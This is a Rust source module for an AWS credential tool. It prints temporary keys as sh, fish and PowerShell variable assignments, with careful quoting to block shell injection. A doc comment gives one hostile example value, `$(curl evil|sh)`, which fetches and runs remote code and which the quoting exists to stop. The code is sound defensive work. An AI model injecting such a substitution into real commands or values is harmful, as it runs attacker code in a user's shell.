//! Credentials as environment variables: shell commands that set them (sh, fish, PowerShell)
//! and the environment of a child process (`rolegate exec`).
//!
//! Every value is quoted, whatever it looks like: the keys come from STS and the region from
//! config, and an STS endpoint that answered `$(curl evil|sh)` must not run it in the user's
//! shell. Each shell has its own single-quote rules, so each has its own function here.

use super::{Credentials, Unpresentable};

/// A shell `rolegate env` writes for; bash and zsh read the sh form.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
// `PowerShell` is the shell's name, not `Shell` repeated.
#[allow(clippy::enum_variant_names)]
pub(crate) enum Shell {
    Sh,
    Fish,
    PowerShell,
}

impl Shell {
    /// `--format`'s names: sh, bash, zsh, fish, powershell.
    pub(crate) fn from_name(name: &str) -> Option<Shell> {
        match name {
            "sh" | "bash" | "zsh" => Some(Shell::Sh),
            "fish" => Some(Shell::Fish),
            "powershell" => Some(Shell::PowerShell),
            _ => None,
        }
    }

    fn phrase(self) -> &'static str {
        match self {
            Shell::Sh => "for sh",
            Shell::Fish => "for fish",
            Shell::PowerShell => "for PowerShell",
        }
    }
}

/// The variables that hand credentials to the AWS CLI and SDKs, in the order they are set.
/// Deliberately not `Debug`: it holds the secret key and session token in the clear.
pub(crate) struct Environment(Vec<(&'static str, String)>);

impl Environment {
    /// The three variables every SDK reads: what the browser's page shows.
    pub(crate) fn keys(c: &Credentials) -> Self {
        Environment(vec![
            ("AWS_ACCESS_KEY_ID", c.access_key_id.clone()),
            (
                "AWS_SECRET_ACCESS_KEY",
                c.secret_access_key.expose().clone(),
            ),
            ("AWS_SESSION_TOKEN", c.session_token.expose().clone()),
        ])
    }

    /// The keys, their expiry (the AWS CLI shows it, some SDKs refresh by it) and the role's
    /// region: what `rolegate env` prints and `rolegate exec` sets. `region_preset` says the
    /// user already chose a region (`AWS_REGION` or `AWS_DEFAULT_REGION` set): then neither
    /// region variable is touched, since setting only one would make SDKs and the AWS CLI
    /// disagree. A region that is not a plain name (letters, digits, `-`) is not passed on.
    pub(crate) fn session(c: &Credentials, region_preset: bool) -> Self {
        let mut vars = Self::keys(c).0;
        vars.push((
            "AWS_CREDENTIAL_EXPIRATION",
            crate::clock::rfc3339(c.expiration),
        ));
        if let Some(r) = c.region.as_deref()
            && !region_preset
            && !r.is_empty()
            && r.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
        {
            vars.push(("AWS_REGION", r.to_string()));
            vars.push(("AWS_DEFAULT_REGION", r.to_string()));
        }
        Environment(vars)
    }

    /// The variables that point the AWS SDKs at a container-credentials endpoint
    /// (`rolegate serve-credentials`) instead of handing them keys.
    pub(crate) fn container(full_uri: String, token_file: String) -> Self {
        Environment(vec![
            ("AWS_CONTAINER_CREDENTIALS_FULL_URI", full_uri),
            ("AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE", token_file),
        ])
    }

    /// The variable names, in order.
    #[cfg(test)]
    fn names(&self) -> Vec<&'static str> {
        self.0.iter().map(|(k, _)| *k).collect()
    }

    /// One command per line, no newline after the last.
    pub(crate) fn render(&self, shell: Shell) -> Result<String, Unpresentable> {
        let lines = self
            .0
            .iter()
            .map(|(k, v)| {
                Ok(match shell {
                    Shell::Sh => format!("export {k}={}", sh_quote(k, v)?),
                    // `;`: `eval (rolegate env --format fish)` joins the lines with spaces.
                    Shell::Fish => format!("set -gx {k} {};", fish_quote(k, v)?),
                    Shell::PowerShell => format!("$Env:{k}={}", powershell_quote(k, v)?),
                })
            })
            .collect::<Result<Vec<_>, Unpresentable>>()?;
        Ok(lines.join("\n"))
    }

    /// The variables for a child process. No shell reads them, so nothing is quoted; only
    /// NUL is refused, which no environment can hold (the OS would cut the value there).
    pub(crate) fn for_process(&self) -> Result<Vec<(&'static str, &str)>, Unpresentable> {
        self.0
            .iter()
            .map(|(k, v)| {
                refuse_nul("for a process environment", k, v)?;
                Ok((*k, v.as_str()))
            })
            .collect()
    }
}

/// NUL ends a C string: no shell variable and no environment can hold one, so the value a
/// program would see is not the one STS sent.
fn refuse_nul(format: &'static str, name: &str, v: &str) -> Result<(), Unpresentable> {
    if v.contains('\0') {
        return Err(Unpresentable::new(
            format,
            name,
            "it contains U+0000 (NUL), which no environment variable can hold",
        ));
    }
    Ok(())
}

/// POSIX sh: inside single quotes nothing is special but the closing quote, so a `'` is
/// written as `'\''` (close, an escaped quote, reopen). Line breaks stay as they are: quoted,
/// they are part of the value.
fn sh_quote(name: &str, v: &str) -> Result<String, Unpresentable> {
    refuse_nul(Shell::Sh.phrase(), name, v)?;
    Ok(format!("'{}'", v.replace('\'', r"'\''")))
}

/// fish: inside single quotes `\'` and `\\` are escapes (and a lone backslash before anything
/// else stays literal), so both the quote and every backslash are escaped. sh's `'\''` is
/// wrong here: fish would read the value's own `\\` as one backslash.
fn fish_quote(name: &str, v: &str) -> Result<String, Unpresentable> {
    refuse_nul(Shell::Fish.phrase(), name, v)?;
    Ok(format!("'{}'", v.replace('\\', r"\\").replace('\'', r"\'")))
}

/// PowerShell single quotes: a quote is escaped by doubling it, and PowerShell's tokenizer
/// takes the typographic quotes U+2018, U+2019, U+201A and U+201B as single quotes too (a
/// word processor's `’` would otherwise end the string). CR and LF are refused: the usual
/// `rolegate env --format powershell | Invoke-Expression` runs each line on its own, so a
/// line break inside the quotes would start a new command.
fn powershell_quote(name: &str, v: &str) -> Result<String, Unpresentable> {
    let format = Shell::PowerShell.phrase();
    refuse_nul(format, name, v)?;
    if let Some(c) = v.chars().find(|c| matches!(c, '\r' | '\n')) {
        return Err(Unpresentable::new(
            format,
            name,
            format!(
                "it contains {} (a line break; Invoke-Expression reads line by line)",
                crate::domain::text::describe(c)
            ),
        ));
    }
    let mut out = String::with_capacity(v.len() + 2);
    out.push('\'');
    for c in v.chars() {
        if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}') {
            out.push(c);
        }
        out.push(c);
    }
    out.push('\'');
    Ok(out)
}

#[cfg(test)]
mod tests;
